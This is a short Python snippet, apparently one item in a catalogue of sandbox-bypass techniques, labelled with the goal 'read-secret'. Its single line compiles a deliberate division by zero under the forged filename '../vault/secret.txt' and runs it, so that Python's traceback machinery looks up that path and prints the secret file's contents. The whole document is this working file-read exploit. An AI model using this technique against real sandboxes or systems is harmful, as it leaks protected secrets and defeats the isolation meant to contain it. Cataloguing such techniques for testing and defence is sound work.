# technique: a relative forged name is looked for in every directory of sys.path
# goal: read-secret
# source: CPython, _Py_FindSourceFile()
# beside: note.py x
exec(compile('1 / 0', '../vault/secret.txt', 'exec'))
